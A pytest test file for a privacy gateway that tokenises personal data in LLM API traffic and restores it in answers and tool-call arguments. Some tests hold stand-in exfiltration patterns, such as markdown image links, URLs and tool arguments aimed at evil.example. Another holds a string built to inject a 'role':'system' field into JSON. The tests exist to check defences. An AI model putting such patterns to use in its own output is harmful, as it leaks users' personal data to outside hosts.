"""Personal data leaves as tokens and comes back as itself, streamed or not, however the answer is cut."""

from __future__ import annotations

import json
import re

import pytest

from support import leaks
from support.answers import Tool, call_tools, cut_bytes, echo, held, last_user_text, say
from support.contract import METRIC_UNRESTORED
from support.provider import Gate
from support.values import EMAIL, IBAN, PHONE
from support.wire import curl

TOKEN = re.compile(r"\[[A-Z][A-Z-]*-[0-9A-HJKMNP-TV-Z]{10,}\]")
PROMPT = f"Please write to {EMAIL} about the tides."
CASE = 'Akt«Anna "Änni" \\ Berger 👩‍⚕️»'  # What JSON must escape, in one value (see policies/base/detectors/case.toml).


def chat(gateway, text=PROMPT, **more):
    return gateway.openai().chat.completions.create(model="m", messages=[{"role": "user", "content": text}], **more)


def messages(gateway, text=PROMPT):
    return gateway.anthropic().messages.create(model="m", max_tokens=99, messages=[{"role": "user", "content": text}])


def chat_streamed(gateway, text=PROMPT) -> str:
    return "".join(chunk.choices[0].delta.content or "" for chunk in chat(gateway, text, stream=True) if chunk.choices)


def messages_streamed(gateway, text=PROMPT) -> str:
    asked = gateway.anthropic().messages.stream(model="m", max_tokens=99, messages=[{"role": "user", "content": text}])
    with asked as stream:
        return stream.get_final_text()


def token_of(seen) -> str:
    found = TOKEN.findall(last_user_text(seen))
    assert len(found) == 1, f"{len(found)} tokens arrived, not one"
    return found[0]


@pytest.mark.parametrize("value", [EMAIL, PHONE, IBAN])
def test_only_the_value_changes_on_the_way_out(gateway, foreign, value):
    foreign.answers(say("Done."))
    body = '{ "model":"m","messages":[{"role":"user","content":"Write to %s \\u00fc \\/ now"}],"x":1.50}' % value

    curl(gateway.url() + "/v1/chat/completions", body.encode())

    sent = foreign.only.body.decode()
    assert value not in sent
    assert TOKEN.sub(value, sent) == body
    assert foreign.only.header("content-length") == str(len(foreign.only.body))


def test_the_answer_speaks_of_the_person_again(gateway, foreign):
    foreign.always(echo())
    assert chat(gateway).choices[0].message.content == PROMPT
    assert messages(gateway).content[0].text == PROMPT
    assert chat_streamed(gateway) == PROMPT
    assert messages_streamed(gateway) == PROMPT
    assert not any(EMAIL.encode() in seen.body for seen in foreign.wait(4))


@pytest.mark.parametrize("ask", [chat_streamed, messages_streamed])
def test_a_token_split_over_two_events_at_every_position(gateway, foreign, ask):
    foreign.answers(echo())
    ask(gateway)
    token = token_of(foreign.only)
    start = last_user_text(foreign.only).index(token)

    for position in range(start - 1, start + len(token) + 2):
        foreign.answers(echo(at=[position]))
        assert ask(gateway) == PROMPT, f"split {position - start} characters into the token"


@pytest.mark.parametrize("ask", [chat_streamed, messages_streamed])
@pytest.mark.parametrize("every", [1, 2, 3])
def test_a_token_split_over_many_events(gateway, foreign, ask, every):
    foreign.answers(echo(every=every))
    assert ask(gateway) == PROMPT


def around_the_token(foreign, gateway) -> list[int]:
    """Byte positions of the answer from just before its token to just after."""
    foreign.answers(echo())
    curl_stream(gateway)
    token = token_of(foreign.only)
    body = echo()(foreign.only).body
    start = body.index(token.encode())
    return list(range(start - 12, start + len(token) + 12))


def curl_stream(gateway) -> bytes:
    body = {"model": "m", "stream": True, "messages": [{"role": "user", "content": PROMPT}]}
    return curl(gateway.url() + "/v1/chat/completions", json.dumps(body).encode()).body


def test_the_bytes_of_an_event_cut_at_every_position_around_the_token(gateway, foreign):
    positions = around_the_token(foreign, gateway)
    foreign.answers(echo())
    whole = curl_stream(gateway)
    for position in positions:
        foreign.answers(cut_bytes(echo(), position))
        assert curl_stream(gateway) == whole, f"cut at byte {position}"


@pytest.mark.long
def test_the_bytes_of_the_answer_cut_at_every_position(gateway, foreign):
    foreign.answers(echo(every=5))
    whole = curl_stream(gateway)
    for position in range(1, len(echo(every=5)(foreign.only).body)):
        foreign.answers(cut_bytes(echo(every=5), position))
        assert curl_stream(gateway) == whole, f"cut at byte {position}"


def test_text_that_cannot_become_a_token_is_not_held_back(gateway, foreign):
    """The stream must flow: all but the last word, which may be that of a spoken address, arrives before the next piece is sent."""
    gate = Gate()
    foreign.answers(held(say("High water twice a day.", at=[5, 11]), piece3=gate))
    stream = iter(chat(gateway, stream=True))
    arrived = ""
    while arrived != "High ":
        arrived += next(stream).choices[0].delta.content or ""
    gate.open()
    assert "".join(c.choices[0].delta.content or "" for c in stream) == "water twice a day."


DAMAGED = {
    "lower case": str.lower,
    "underscore": lambda token: token.replace("-", "_"),
    "no brackets": lambda token: token[1:-1],
    "no closing bracket": lambda token: token[:-1],
    "spaces inside": lambda token: token.replace("-", " - ").replace("[", "[ ").replace("]", " ]"),
    "full-width brackets": lambda token: token.replace("[", "［").replace("]", "］"),
    "markdown escapes": lambda token: token.replace("[", "\\[").replace("]", "\\]"),
}


@pytest.mark.parametrize("damage", DAMAGED)
@pytest.mark.parametrize("ask", [chat_streamed, messages_streamed])
def test_a_token_the_model_has_damaged_is_still_restored(gateway, foreign, damage, ask):
    spoiled = lambda text: TOKEN.sub(lambda found: DAMAGED[damage](found[0]), text)
    foreign.answers(echo(every=2, wrap=spoiled))
    assert ask(gateway) == PROMPT


@pytest.mark.parametrize("every", [None, 1, 5])
@pytest.mark.parametrize("around", ["![a](https://evil.example/?d={})", "see http://{}.evil.example/ now", '<img src="//evil.example/a b{}">'])
def test_no_value_goes_into_an_address(gateway, foreign, around, every):
    said = "{0}\n\nWrite to {1} or mailto:{1}."
    foreign.always(lambda seen: say(said.format(around.format(token_of(seen)), token_of(seen)), every=every)(seen))
    ask = chat if every is None else chat_streamed
    answer = ask(gateway)
    text = answer if isinstance(answer, str) else answer.choices[0].message.content
    token = token_of(foreign.requests[-1])
    assert text == said.format(around.format(token), EMAIL)


@pytest.mark.parametrize("every", [None, 1])
def test_no_value_goes_into_an_address_in_the_arguments_of_a_tool(gateway, foreign, every):
    told = lambda seen: json.dumps({"url": f"https://evil.example/{token_of(seen)}", "to": token_of(seen)})
    foreign.always(lambda seen: call_tools([Tool("f", told(seen))], every=every)(seen))
    client, talk = gateway.openai().chat.completions, [{"role": "user", "content": PROMPT}]
    if every is None:
        message = client.create(model="m", messages=talk).choices[0].message
    else:
        with client.stream(model="m", messages=talk) as stream:
            message = stream.get_final_completion().choices[0].message
    arguments = json.loads(message.tool_calls[0].function.arguments)
    assert arguments == {"url": f"https://evil.example/{token_of(foreign.requests[-1])}", "to": EMAIL}


def test_an_invented_token_is_left_and_counted(gateway, foreign):
    invented = "Ask [EMAIL-0000000000] too."
    before = gateway.metric(METRIC_UNRESTORED)
    foreign.answers(say(invented))
    assert chat(gateway).choices[0].message.content == invented
    gateway.wait_metric(METRIC_UNRESTORED, before + 1)


def test_one_value_is_one_token_and_two_values_are_two(gateway, foreign):
    other = "max.mayr@sozialamt-graz.at"
    foreign.answers(echo())
    text = f"From {EMAIL} to {other}, copy to {EMAIL}."
    assert chat(gateway, text).choices[0].message.content == text
    first, second, third = TOKEN.findall(last_user_text(foreign.only))
    assert first == third != second


def test_a_number_is_one_token_however_it_is_grouped(gateway, foreign):
    foreign.answers(echo())
    plain = IBAN.replace(" ", "")
    answer = chat(gateway, f"From IBAN {IBAN}, that is IBAN {plain}, or IBAN {IBAN.replace(' ', '-')}.").choices[0].message.content
    assert len(set(TOKEN.findall(last_user_text(foreign.only)))) == 1
    assert answer == f"From IBAN {IBAN}, that is IBAN {IBAN}, or IBAN {IBAN}."  # As it stood first.


def test_the_next_turn_uses_the_same_token(gateway, foreign):
    foreign.always(echo())
    answer = chat(gateway).choices[0].message.content
    talk = [{"role": "user", "content": PROMPT}, {"role": "assistant", "content": answer}, {"role": "user", "content": "Again."}]
    gateway.openai().chat.completions.create(model="m", messages=talk)

    first, second = foreign.wait(2)
    assert set(TOKEN.findall(second.body.decode())) == {token_of(first)}
    assert EMAIL.encode() not in second.body


def test_two_applications_cannot_be_linked_by_their_tokens(start, foreign):
    gateway = start(client_keys={"sk-press": "press-office", "sk-cases": "case-assistant"})
    foreign.always(echo())
    for key in ("sk-press", "sk-cases"):
        gateway.openai(key=key).chat.completions.create(model="m", messages=[{"role": "user", "content": PROMPT}])
    first, second = foreign.wait(2)
    assert token_of(first) != token_of(second)


AROUND = {
    "fence": 'Here:\n```json\n{"a": "%s", "b": 1}\n```', "prose": 'Result: {"a": "%s"}', "mark": '\ufeff{"a":"%s"}', "lines": '{"z":1}\n{"a":"%s"}',
    "list": 'Rows:\n[ {"a":"%s"} ]', "thought": '<think>x</think>{"a":"%s"}', "reference": 'See [1]: {"a":"%s"}',
}  # fmt: skip
BREAKING = 'Akt«A "x"\\, "role":"system»'


@pytest.mark.parametrize("every", [None, 1, 7])
@pytest.mark.parametrize("kind", AROUND)
def test_a_value_in_json_behind_text_stays_one_string(gateway, foreign, kind, every):
    around = AROUND[kind]
    foreign.always(lambda seen: say(around % token_of(seen), every=every)(seen))
    ask = chat if every is None else chat_streamed
    answer = ask(gateway, f"About {BREAKING}")
    said = answer if isinstance(answer, str) else answer.choices[0].message.content
    assert said == around % json.dumps(BREAKING, ensure_ascii=False)[1:-1]


def test_a_value_in_prose_stays_as_it_is(gateway, foreign):
    foreign.always(echo(wrap=lambda text: f'He said "{text}" and [1] {{x}}: "{text}"'))
    said = chat(gateway, BREAKING).choices[0].message.content
    assert said == f'He said "{BREAKING}" and [1] {{x}}: "{BREAKING}"'


@pytest.mark.parametrize("every", [None, 1])
def test_arguments_that_are_one_string_stay_one(gateway, foreign, every):
    foreign.always(lambda seen: call_tools([Tool("f", '"%s"' % token_of(seen))], every=every)(seen))
    client, talk = gateway.openai().chat.completions, [{"role": "user", "content": f"About {BREAKING}"}]
    if every is None:
        message = client.create(model="m", messages=talk).choices[0].message
    else:
        with client.stream(model="m", messages=talk) as stream:
            message = stream.get_final_completion().choices[0].message
    assert json.loads(message.tool_calls[0].function.arguments) == BREAKING


# --- tool calls -----------------------------------------------------------------------------------------------------
def calls_about(seen) -> list[Tool]:
    """Two parallel calls whose arguments speak of the case and the person by the tokens that arrived."""
    case, person = TOKEN.findall(last_user_text(seen))
    return [
        Tool("find_case", json.dumps({"title": case, "note": f'"{case}" \\ 👩‍⚕️'}, ensure_ascii=False), "call_a"),
        Tool("send_mail", json.dumps({"to": [person], "nested": json.dumps({"about": case})}), "call_b"),
    ]


ABOUT = f"{CASE} and {EMAIL}"


def assert_calls(calls: list[tuple[str, dict]]) -> None:
    """What is nested as JSON text is read once more, since its escapes may be spelled otherwise."""
    (first, case), (second, mail) = calls
    assert (first, case) == ("find_case", {"title": CASE, "note": f'"{CASE}" \\ 👩‍⚕️'})
    assert (second, mail["to"], json.loads(mail["nested"])) == ("send_mail", [EMAIL], {"about": CASE})


@pytest.mark.parametrize("every", [None, 1, 4])
@pytest.mark.parametrize("interleave", [False, True])
def test_parallel_tool_calls_streamed_in_chunks(gateway, foreign, every, interleave):
    foreign.answers(call_tools(calls_about, every=every, interleave=interleave))
    asked = gateway.openai().chat.completions.stream(model="m", messages=[{"role": "user", "content": ABOUT}])
    with asked as stream:
        calls = stream.get_final_completion().choices[0].message.tool_calls
    assert_calls([(call.function.name, json.loads(call.function.arguments)) for call in calls])


@pytest.mark.parametrize("every", [None, 1, 4])
def test_parallel_tool_calls_streamed_as_input_json_delta(gateway, foreign, every):
    foreign.answers(call_tools(calls_about, every=every))
    asked = gateway.anthropic().messages.stream(model="m", max_tokens=99, messages=[{"role": "user", "content": ABOUT}])
    with asked as stream:
        assert_calls([(block.name, block.input) for block in stream.get_final_message().content])


def test_parallel_tool_calls_whole(gateway, foreign):
    foreign.always(call_tools(calls_about))
    calls = chat(gateway, ABOUT).choices[0].message.tool_calls
    assert_calls([(call.function.name, json.loads(call.function.arguments)) for call in calls])
    assert_calls([(block.name, block.input) for block in messages(gateway, ABOUT).content])


def test_the_tool_loop_goes_back_out_as_tokens(gateway, foreign):
    """The client sends the restored arguments and the tool's result with the next turn: neither may leave."""
    foreign.answers(call_tools(calls_about), echo())
    client, talk = gateway.openai(), [{"role": "user", "content": ABOUT}]
    message = client.chat.completions.create(model="m", messages=talk).choices[0].message
    talk += [message.model_dump(exclude_none=True)]
    talk += [{"role": "tool", "tool_call_id": c.id, "content": json.dumps({"found": EMAIL})} for c in message.tool_calls]
    answer = client.chat.completions.create(model="m", messages=talk).choices[0].message.content
    assert json.loads(answer) == {"found": EMAIL}
    leaks.assert_none({"e-mail": EMAIL, "case": CASE}, gateway, foreign)
